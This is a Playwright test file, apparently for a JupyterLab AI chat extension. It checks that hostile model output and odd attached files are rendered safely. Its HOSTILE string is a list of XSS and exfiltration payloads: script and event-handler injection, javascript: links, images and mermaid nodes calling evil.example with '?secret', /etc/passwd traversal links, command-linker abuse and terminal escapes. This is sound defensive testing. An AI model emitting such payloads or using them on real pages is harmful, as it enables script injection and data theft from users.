/** Model text that wants out: the browser asks nobody, and nothing runs. Files that lie. */

import { execFileSync } from 'child_process';
import { join } from 'path';

import { chips, lastPrompt } from './files';
import { begin, command, expect, play, test } from './stage';

const HOSTILE = `Look here.

![image](https://evil.example/a.png)
<img src="https://evil.example/b.png" onerror="window.hacked = 1">
<picture><source srcset="https://evil.example/c.png"></picture>
<iframe src="https://evil.example/frame"></iframe>
<script>window.hacked = 2</script>
<script src="https://evil.example/d.js"></script>
<link rel="stylesheet" href="https://evil.example/e.css">
<style>@import url(https://evil.example/f.css); * { display: none }</style>
<p style="background:url(https://evil.example/g.png)">styled</p>
<video src="https://evil.example/h.mp4" autoplay></video>
<audio src="https://evil.example/i.mp3" autoplay></audio>
<object data="https://evil.example/j"></object><embed src="https://evil.example/k">
<svg onload="window.hacked = 3"><image href="https://evil.example/l.png"/></svg>
<math><mtext><img src=x onerror="window.hacked = 4"></mtext></math>
<form action="https://evil.example/m"><button>Run</button></form>
<a href="javascript:window.hacked = 5">script link</a>
[markdown link](javascript:window.hacked=6)
<a href="/lab?reset" data-commandlinker-command="notebook:run-all-cells">inner link</a>
<span data-commandlinker-command="application:close-all">command</span>

\`\`\`html show
<img src="https://evil.example/n.png">
\`\`\`

\`\`\`javascript
window.hacked = 7
\`\`\`

\`\`\`mermaid
flowchart TD
  A["<img src=https://evil.example/label.png?secret>"]
\`\`\`

\`\`\`mermaid
flowchart TD
  A@{ img: "https://evil.example/node.png?secret", label: "a" }
\`\`\`

~~~mermaid
flowchart TD
  A["<img src=https://evil.example/tilde.png?secret>"]
  B@{ img: "https://evil.example/tilde-node.png?secret" }
~~~

- A list:

  \`\`\`mermaid
  flowchart TD
    A["<img src=https://evil.example/list.png?secret>"]
    B@{ img: "https://evil.example/list-node.png?secret" }
  \`\`\`

   \`\`\`\` MerMaid
   flowchart TD
     A["<img src=https://evil.example/case.png?secret>"]
     B@{ img: "https://evil.example/case-node.png?secret" }
   \`\`\`\`

> \`\`\`mermaid
> flowchart TD
>   A["<img src=https://evil.example/quote.png?secret>"]
> \`\`\`

\`\`\`svg
<svg><image href="https://evil.example/o.png"/></svg>
\`\`\`

[above](../../../../etc/passwd) [encoded](%2e%2e/%2e%2e/%2e%2e/x.csv) [drive](C:/x) [root](/etc/passwd)
[windows](..%5c..%5cx.csv) [host](//evil.example/x.csv) [file](file:///etc/passwd)
$\\href{javascript:window.hacked=8}{formula}$ and $\\mmlToken{mglyph}[src="https://evil.example/p.png"]{}$
\\(\\style{background:url(https://evil.example/q.png)}{x}\\) \u001b]8;;https://evil.example/r\u0007terminal link\u001b]8;;\u0007 \u001b[31mred\u001b[0m

The end.
`;

test('hostile Markdown loads nothing and runs nothing', async ({ page }) => {
  play({ hostile: [{ text: HOSTILE, chunk: 7, delay: 0.001 }] });
  const panel = await begin(page);
  const asked: string[] = [];
  await page.route(/evil\.example/, route => {
    asked.push(route.request().url());
    return route.abort();
  });
  page.on('request', request => {
    if (request.url().includes('evil.example')) {
      asked.push(request.url());
    }
  });
  await panel.ask('hostile');
  const answer = panel.answers.last();
  await expect(answer).toContainText('The end.');
  for (const name of ['script link', 'inner link', 'command', 'above']) {
    await answer.getByText(name, { exact: true }).click();
  }
  await expect(panel.region).toBeVisible();
  await expect(answer.locator('pre', { hasText: 'flowchart' })).toHaveCount(6);
  // A diagram would be drawn, and load, a while after its text has come.
  await page.waitForLoadState('networkidle');
  expect(asked).toEqual([]);
  expect(await page.evaluate('window.hacked')).toBeUndefined();
  const elements =
    'img,iframe,script,style,link,video,audio,object,embed,svg,form';
  await expect(
    answer.locator('.jp-gptcode-text').locator(elements)
  ).toHaveCount(0);
  // An address in plain text is a link like any other to the web.
  await expect(answer.locator('a[href]:not([target=_blank])')).toHaveCount(0);
  await expect(answer.locator('mjx-container')).toHaveCount(0);
  await expect(answer).toContainText('\\href{javascript:');
  // An image called "x", which would be beside the notebook.
  await expect(answer.locator('a[role=link]')).toHaveText(['x']);
});

/** The files of tests/hostile.py, written where the server keeps its own. */
function makeHostileFiles(folder: string): string[] {
  const program = `import pathlib, sys
from tests.hostile import FILES
folder = pathlib.Path(sys.argv[1])
for file in FILES:
    file.make(folder / file.name)
print(",".join(file.name for file in FILES))`;
  const cwd = join(__dirname, '..', '..');
  const names = execFileSync('python', ['-c', program, folder], { cwd });
  return names.toString().trim().split(',');
}

test(
  'hostile files are a sentence each, and the prompt goes',
  { tag: '@repeats' },
  async ({ page, tmpPath }) => {
    test.slow();
    play({ files: ['They are odd.'] });
    const panel = await begin(page);
    const root = await page.evaluate(() => {
      const data = document.getElementById('jupyter-config-data');
      return (JSON.parse(data?.textContent ?? '{}') as { serverRoot: string })
        .serverRoot;
    });
    const names = makeHostileFiles(join(root, tmpPath));
    expect(names.length).toBeGreaterThan(30);
    const failures: string[] = [];
    page.on('response', response => {
      if (response.status() >= 500) {
        failures.push(`${response.status()} ${response.url()}`);
      }
    });
    await command(page, 'gptcode:attach-files', {
      paths: names.map(name => `${tmpPath}/${name}`)
    });
    await expect(chips(panel)).toHaveCount(names.length);
    // Each has been looked at: either it is said what is wrong, or the tooltip says what it is.
    await expect(
      panel.region.locator('.jp-gptcode-chip[data-state="reading"]')
    ).toHaveCount(0, { timeout: 120_000 });
    const texts = await chips(panel).evaluateAll(nodes =>
      nodes.map(node => `${node.textContent}${(node as HTMLElement).title}`)
    );
    for (const [index, name] of names.entries()) {
      expect(texts[index].length).toBeGreaterThan(name.length * 2);
      expect(texts[index]).not.toContain('Traceback');
    }
    await panel.ask('What are these files?');
    expect(lastPrompt()).toContain(`File ${names.length}: `);
    await expect(chips(panel)).toHaveCount(0);
    expect(failures).toEqual([]);
  }
);
